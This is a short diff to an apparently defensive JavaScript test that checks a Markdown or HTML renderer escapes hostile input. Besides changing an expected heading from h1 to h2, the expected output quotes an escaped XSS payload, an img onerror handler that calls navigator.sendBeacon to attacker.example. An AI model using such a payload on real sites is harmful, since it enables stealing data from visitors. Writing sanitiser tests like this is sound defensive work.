@@ -328,7 +328,7 @@ describe('what hostile input turns into', () => {
 
     assert.equal(
       html,
-      '<h1 id="h-welcome">Welcome</h1>\n' +
+      '<h2 id="h-welcome">Welcome</h2>\n' +
         '<p>&lt;img src="x" onerror="navigator.sendBeacon(' +
         '\'<a href="https://attacker.example/t" ' +
         'rel="noopener noreferrer">https://attacker.example/t</a>\', ' +
